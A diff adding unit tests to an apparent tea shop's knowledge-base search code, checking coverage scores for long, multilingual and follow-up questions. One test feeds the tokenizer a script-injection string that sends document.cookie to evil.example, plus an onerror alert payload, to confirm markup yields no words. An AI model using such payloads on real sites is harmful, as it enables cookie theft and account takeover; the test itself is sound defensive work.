@@ -87,3 +87,34 @@ def test_a_question_of_several_messages_is_covered_as_its_best_line(shop) -> Non
 def test_a_question_without_content_words_has_no_coverage(shop) -> None:
     hits = search("can you tell me, please?", limit=10, include_weak=True).hits
     assert all(hit.coverage is None for hit in hits)
+
+
+def test_a_long_message_is_covered_as_its_question_sentence(shop) -> None:
+    rambling = ("Hi! I've bought from you for years and love the oolong, my mother adores it too, and my "
+                "colleague just moved to the mountains. How long does delivery to Tibet take?")
+    assert coverage_of(rambling, "Shipping and delivery") >= 0.5
+    assert coverage_of("我一直在你们家买茶，朋友也很喜欢，上个月刚换了工作。退款多久到账？", "退货与退款") >= 0.5
+
+
+def test_markup_links_and_addresses_are_no_words_of_a_subject(shop) -> None:
+    assert words("<script>fetch('https://evil.example/?c='+document.cookie)</script>") == []
+    assert words('<img src=x onerror=alert(1)> see www.studio.example or mail me@studio.example') == ["mail"]
+
+
+def test_an_article_covers_what_its_sections_cover_between_them(fake_ollama) -> None:
+    article_create(title="Payment", body="## Cards\n\nWe take Visa and Mastercard.\n\n"
+                   "## On delivery\n\nCash on delivery is not offered; pay online before the courier comes.")
+    [hit, *_] = search("can I pay cash or Visa", limit=2, include_weak=True).hits
+    assert hit.article_coverage > hit.coverage  # "visa" in one section, "cash" in the other
+
+
+def test_a_follow_up_is_covered_with_the_question_it_follows(shop) -> None:
+    from knowledge.embedding import embed_queries
+
+    follow_up = "and to Lhasa?"
+    assert coverage_of(follow_up, "Shipping and delivery") == 0  # on its own: a place no article names
+    joined = "Do you deliver to Tibet?\n" + follow_up
+    query_vector, context_vector = embed_queries([follow_up, joined])
+    [hit, *_] = search(follow_up, query_vector=query_vector, limit=3, include_weak=True,
+                       context=(joined, context_vector)).hits
+    assert hit.title == "Shipping and delivery" and hit.coverage >= 0.5
